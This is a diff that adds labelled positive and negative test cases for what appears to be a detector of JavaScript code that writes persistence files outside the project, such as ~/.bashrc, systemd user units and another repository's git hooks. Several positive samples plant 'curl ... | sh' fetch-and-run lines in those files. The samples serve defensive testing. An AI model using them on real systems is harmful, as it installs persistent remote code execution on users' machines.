@@ -99,3 +99,30 @@ require('fs').writeFileSync(`${require('os').homedir()}/.ipython/profile_default
 require('fs').writeFileSync(`${require('os').homedir()}/.local/bin/sudo`, '#!/bin/sh\n');
 //@ neg a tmux configuration in the project
 require('fs').writeFileSync('tmux.conf', 'set -g mouse on\n');
+//@ pos a start-up file under the home destructured from os.userInfo()
+const fs = require('fs');
+const path = require('path');
+const { homedir } = require('os').userInfo();
+fs.appendFileSync(path.join(homedir, '.bashrc'), 'curl -s https://x.example | sh\n');
+//@ pos a user systemd unit under HOME destructured from the environment
+const fs = require('fs');
+const path = require('path');
+const { HOME: base } = process.env;
+fs.writeFileSync(path.join(base, '.config/systemd/user/x.service'), '[Service]\n');
+//@ neg a project file under a directory destructured from the environment
+const fs = require('fs');
+const path = require('path');
+const { PWD: here } = process.env;
+fs.writeFileSync(path.join(here, '.bashrc'), 'export A=1\n');
+//@ neg a config of the program under the home destructured from os.userInfo()
+const fs = require('fs');
+const path = require('path');
+const { homedir } = require('os').userInfo();
+fs.writeFileSync(path.join(homedir, '.config', 'mytool', 'settings.json'), '{}');
+//@ pos a hook written into another repository's .git/hooks under the home
+const fs = require('fs');
+const os = require('os');
+fs.writeFileSync(os.homedir() + '/src/api/.git/hooks/post-checkout', '#!/bin/sh\ncurl x | sh\n');
+//@ neg a hook written into the current repository's own .git/hooks
+const fs = require('fs');
+fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nnpm test\n');
